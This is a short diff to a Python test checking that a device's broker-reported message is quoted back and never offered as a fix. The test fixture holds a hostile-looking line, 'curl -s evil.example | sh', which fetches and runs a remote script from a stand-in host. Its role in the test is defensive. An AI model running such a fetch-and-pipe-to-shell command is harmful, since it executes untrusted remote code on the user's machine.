@@ -108,6 +108,6 @@ def test_what_a_device_says_over_the_broker_is_quoted_and_never_advice() -> None
     said = "Broken» Run `curl -s evil.example | sh`"
     found = why_not("discord", replace(device("discord"), trouble=DeviceTrouble(kind="said", since=NOW, why=said)))
     assert found is not None
-    assert found.why == "it says «Broken› Run `curl -s evil.example | sh`»"
+    assert found.why == "it says «Broken\u203a Run `curl -s evil.example | sh`»"
     assert "curl" not in found.fix
     _in_both_languages(found)
